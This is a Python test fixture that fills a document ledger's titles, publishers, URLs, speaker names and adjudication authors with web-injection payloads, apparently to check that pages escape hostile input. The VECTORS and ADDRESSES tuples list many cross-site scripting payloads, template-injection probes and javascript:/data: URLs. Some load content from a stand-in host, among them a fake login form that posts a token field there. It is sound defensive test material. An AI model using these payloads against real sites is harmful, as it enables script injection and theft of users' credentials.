"""Texts by somebody who would have the page do what they want: in words, titles, publishers, addresses, names, ids."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

from credence.flow import Judging
from credence.ledger import Ledger, Recording, open_ledger
from credence.model.claim import Voice
from credence.model.decision import Adjudication
from credence.model.document import Document
from served import record, said

VECTORS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script src=//elsewhere.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror='alert(1)'>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)' x='",
    "` onpointerenter=`alert(1)` x=`",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>#x\"/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<a href='javascript:alert(1)' id=main>here</a>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css'; body{background:url(//elsewhere.example/x)}</style>",
    "<form action=//elsewhere.example/><input name=token><button>Log in</button></form>",
    "<img src=//elsewhere.example/x.png>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "'-alert(1)-'",
    '";alert(1);//',
    "../../static/../<script>alert(1)</script>?x=<script>#<script>",
)
"""The usual ones, of every place in a page that words may land in; each shows a dialog, or asks another host."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " java\tscript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    f"https://{'user:word'}@example.org:99999/",  # written so that it does not look like somebody's e-mail
    "https://[broken/",
)
"""Addresses that documents say they come from."""


def hostile_ledger(path: Path) -> str:
    """Make a ledger of documents that hold the vectors wherever somebody else's words can stand; give its address."""
    with open_ledger(str(path)) as ledger:
        recordings = list(_recordings())
        record(ledger, *recordings, moment="2024-03-01T10:00:00Z")
        ledger.bring_up(Judging())
        _decide(ledger, recordings)
        ledger.bring_up(Judging())
    return str(path)


def name_of(number: int) -> str:
    """Give the name of the document with one of the vectors; every other is a vector itself."""
    return VECTORS[number] if number % 2 else f"hostile-{number}"


def _recordings() -> Iterator[Recording]:
    for number, (vector, address) in enumerate(zip(VECTORS, cycle(ADDRESSES), strict=False)):
        text = f"China accepted {vector} an ambassador of the Taliban. America listed {vector} as terrorists."
        document = Document(name_of(number), text, title=vector, published="2024-02-01", publisher=vector, url=address)
        accepted, listed = (f"{each}." for each in text.removesuffix(".").split(". America "))
        speaker = (Voice(vector, "taliban", vector),)
        yield Recording(
            document,
            (
                said(document, "envoy.accept", accepted[:-1], when="2024-01-30", by=speaker, host="cn",
                     sender="taliban", rank="ambassador", person=vector),
                said(document, "listing.add", f"America {listed}", lister="us", target=vector, list=vector),
            ),
        )  # fmt: skip


def _decide(ledger: Ledger, recordings: list[Recording]) -> None:
    """Judge the claims of a few, for reasons and in names that are hostile, too."""
    for vector, recording in zip(VECTORS, recordings[:5], strict=False):
        decision = Adjudication(recording.claims[0].id, "accept", vector)
        ledger.decide([decision], moment="2024-03-02T10:00:00Z", author=vector, tool="credence 0")
